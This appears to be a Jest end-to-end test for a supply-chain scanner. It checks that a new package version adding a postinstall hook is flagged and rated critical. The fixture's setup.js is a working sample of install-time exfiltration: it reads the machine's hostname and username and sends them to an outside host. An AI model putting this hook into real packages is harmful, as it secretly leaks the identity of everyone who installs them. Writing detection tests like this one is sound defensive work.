/**
 * What changed since the previous version, end to end: two versions of a fixture package go
 * through POST /v1/scan, the scanner and DynamoDB Local; the second adds a postinstall that makes
 * a network request, and its record names the change in `changes` and in a risk reason.
 */
import { PackageResponse } from '../../src/contract/schemas';
import { pkgJson, tgz } from '../unit/analysis/helpers';
import { expectBody } from './support/contract';
import { startPipeline, type TestPipeline } from './support/pipeline';

jest.setTimeout(60_000);

let pipeline: TestPipeline;

beforeAll(async () => {
  pipeline = await startPipeline();
});
afterAll(async () => {
  await pipeline?.stop();
});

async function scan(name: string, version: string): Promise<PackageResponse> {
  const ack = expectBody(await pipeline.requestScan({ name, version }), 202, 'ScanAck');
  const job = await pipeline.waitForJob(ack.job_id);
  expect(job.status).toBe('completed');
  return expectBody(await pipeline.api.get(`/v1/packages/${name}/${version}`), 200, 'PackageResponse');
}

describe('changes since the previous version', () => {
  it('names a postinstall added with a network request, and raises the release', async () => {
    const name = 'tiny-colour-util';
    pipeline.registry.addPackage(
      name,
      '1.0.0',
      tgz([
        pkgJson({ name, version: '1.0.0', main: 'index.js' }),
        { name: 'package/index.js', data: 'module.exports = (s) => `\\u001b[31m${s}\\u001b[0m`;\n' },
      ]),
    );
    pipeline.registry.addPackage(
      name,
      '1.0.1',
      tgz([
        pkgJson({ name, version: '1.0.1', main: 'index.js', scripts: { postinstall: 'node lib/setup.js' } }),
        { name: 'package/index.js', data: 'module.exports = (s) => `\\u001b[31m${s}\\u001b[0m`;\n' },
        {
          name: 'package/lib/setup.js',
          data: [
            "const https = require('https');",
            "const os = require('os');",
            'const info = { h: os.hostname(), u: os.userInfo().username };',
            "https.get('https://stats.colour-util.dev/ping?d=' + encodeURIComponent(JSON.stringify(info)));",
            '',
          ].join('\n'),
        },
      ]),
      { scripts: { postinstall: 'node lib/setup.js' }, dependencies: { 'node-fetch-lite': '^1.0.0' } },
    );

    const first = await scan(name, '1.0.0');
    expect(first.changes).toEqual({ since: null, items: [] });

    const second = await scan(name, '1.0.1');
    expect(second.changes?.since).toBe('1.0.0');
    const kinds = second.changes!.items.map((item) => item.kind);
    expect(kinds).toEqual(
      expect.arrayContaining(['install_script_added', 'install_time_behaviour_added', 'dependency_added']),
    );
    expect(second.changes!.items.find((i) => i.kind === 'install_script_added')?.detail).toBe(
      'postinstall: node lib/setup.js',
    );
    // The reason names the change, and the release is raised above what its findings alone give.
    const reason = second.risk_reasons.find((r) => /This release adds install scripts/.test(r));
    expect(reason).toMatch(/postinstall \("node lib\/setup\.js"\).*previous version 1\.0\.0 had none/);
    expect(reason).toMatch(/network requests/);
    expect(second.risk_level).toBe('critical');
    // docs_md states the record's final level.
    expect(second.docs_md).toMatch(/- Risk level: critical/);
  });
});
